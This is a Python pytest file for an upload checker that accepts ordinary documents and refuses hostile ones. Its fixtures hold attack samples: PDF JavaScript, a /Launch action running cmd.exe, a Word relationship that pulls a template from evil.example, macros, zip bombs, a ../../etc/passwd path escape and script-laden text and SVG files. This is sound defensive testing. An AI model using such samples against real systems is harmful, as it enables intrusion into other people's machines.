"""A file is what its name says and does nothing by itself, or it does not come in."""

import contextlib
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from demo.documents import make_document
from demo.wording import read_texts
from tests.uploads import hostile
from uploads import checks
from uploads.checks import check_document, check_image
from uploads.errors import UploadRefused

SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
TEMPLATE = (
    '<Relationships><Relationship Type="http://x/attachedTemplate"'
    ' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)

GOOD = {
    "通知.pdf": hostile.pdf(),
    "内容.pdf": hostile.pdf_stream("", "BT (关于 JavaScript 的培训) Tj ET".encode()),
    "通知.docx": hostile.docx(),
    "名单.xlsx": hostile.zipped({"[Content_Types].xml": "", "xl/workbook.xml": ""}),
    "旧文.doc": hostile.ole("WordDocument"),
    "说明.txt": "工会章程，见 <<工人日报>>".encode(),
    "旧编码.csv": "姓名,单位\n甲,乙".encode("gb18030"),
    "材料.zip": hostile.zipped({"一/通知.pdf": hostile.pdf(), "照片.jpg": b"x"}),
    "包.rar": b"Rar!\x1a\x07\x01\x00",
    "片.mp4": b"\0\0\0\x20ftypisom",
    "片.webm": b"\x1aE\xdf\xa3\x01\0\0\0\0\0\0\x1fB\x86\x81\x01B\x82\x84webm",
}
BAD = {
    "program": ("通知.pdf", b"MZ\x90\0", "不是 .pdf"),
    "page as pdf": ("通知.pdf", b"<html><script>1</script>", "不是 .pdf"),
    "script": ("a.pdf", hostile.pdf(f"<< /OpenAction {SCRIPT} >>"), "脚本"),
    "escaped script": ("a.pdf", hostile.pdf("<< /S /J#61vaScript /JS (1) >>"), "脚本"),
    "launch": ("a.pdf", hostile.pdf("<< /S /Launch /F (cmd.exe) >>"), "启动程序"),
    "packed script": ("a.pdf", hostile.pdf_stream("/Type /ObjStm", SCRIPT.encode()), "脚本"),
    "packed and escaped": (
        "a.pdf",
        hostile.pdf_stream("/Type /Obj#53tm /Subtype /Image", b"<< /S /#4aavaScript >>"),
        "脚本",
    ),
    "unknown packing": (
        "a.pdf",
        hostile.pdf(b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nabc\nendstream"),
        "无法检查",
    ),
    "locked pdf": ("a.pdf", hostile.pdf("<< /Encrypt 5 0 R >>"), "加密"),
    "macro": ("a.docx", hostile.docx(**{"word__vbaProject.bin": b"x"}), "宏"),
    "macro in capitals": ("a.docx", hostile.docx(**{"word__VBAPROJECT.BIN": b"x"}), "宏"),
    "control": ("a.docx", hostile.docx(**{"word__activeX__a.bin": b"x"}), "宏或控件"),
    "template": ("a.docx", hostile.docx(**{"word___rels__settings.xml.rels": TEMPLATE}), "模板"),
    "other office kind": ("a.xlsx", hostile.docx(), "不是 .xlsx"),
    "old macro": ("a.doc", hostile.ole("WordDocument", "Macros", "_VBA_PROJECT"), "宏"),
    "old macro of a sheet": ("a.xls", hostile.ole("Workbook", "_VBA_PROJECT_CUR"), "宏"),
    "locked docx": ("a.docx", hostile.ole("EncryptedPackage"), "密码"),
    "bomb": ("a.zip", hostile.bomb(), "过大"),
    "bomb in docx": ("a.docx", hostile.docx(**{"word__x.xml": b" " * 40_000_000}), "过大"),
    "program in zip": ("a.zip", hostile.zipped({"材料/安装.EXE": b"MZ"}), "可以运行"),
    "way out of zip": ("a.zip", hostile.zipped({"../../etc/passwd": b"x"}), "文件名"),
    "page as text": ("a.txt", b"hello <script>alert(1)</script>", "网页代码"),
    "picture as text": ("a.csv", hostile.picture(), "不是 .csv"),
    "svg as text": ("a.txt", b"<svg onload='alert(1)'>", "网页代码"),
    "program as rar": ("a.rar", b"MZ", "不是 .rar"),
    "program as film": ("a.mp4", b"MZ" * 20, "不是 .mp4"),
    "unknown": ("a.html", b"x", "不是 .html"),
}


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_documents_come_in(name):
    file = io.BytesIO(GOOD[name])

    check_document(name, file)

    assert file.tell() == 0


@pytest.mark.parametrize("case", BAD)
def test_hostile_documents_do_not(case):
    name, data, reason = BAD[case]

    with pytest.raises(UploadRefused, match=re.escape(reason)):
        check_document(name, io.BytesIO(data))


def test_what_must_be_read_whole_is_not_read_without_end(monkeypatch):
    monkeypatch.setattr(checks, "MAX_READ", 100)

    with pytest.raises(UploadRefused, match="50 MB"):
        check_document("a.pdf", io.BytesIO(hostile.pdf().ljust(200)))


@pytest.mark.parametrize("form", ["JPEG", "PNG", "GIF", "WEBP"])
def test_ordinary_pictures_come_in(form):
    check_image(f"图.{form.lower()}", io.BytesIO(hostile.picture(form)))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("图.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("图.svg", b"<svg/>"),
        ("图.jpg", hostile.picture("PNG")),
        ("图.png", hostile.picture("PNG")[:60]),
        ("图.gif", b"GIF89a<script>alert(1)</script>"),
        ("图.png", hostile.image_bomb()),
    ],
)
def test_hostile_pictures_do_not(name, data):
    with pytest.raises(UploadRefused):
        check_image(name, io.BytesIO(data))


@given(st.sampled_from(sorted({name.rsplit(".")[-1] for name in GOOD})), st.binary(max_size=2_000))
def test_whatever_comes_is_taken_or_refused_in_words(extension, data):
    start = {"pdf": b"%PDF-1.4\n1 0 obj <<>>\nstream\n", "zip": b"PK\3\4", "docx": b"PK\3\4"}
    file = io.BytesIO(start.get(extension, b"") + data)

    with contextlib.suppress(UploadRefused):  # and nothing else
        check_document(f"a.{extension}", file)

    assert file.tell() == 0


@pytest.mark.parametrize("key", sorted(read_texts("documents")))
def test_the_demo_s_own_documents_come_in(key):
    _title, name, data = make_document(key)

    check_document(name, io.BytesIO(data))
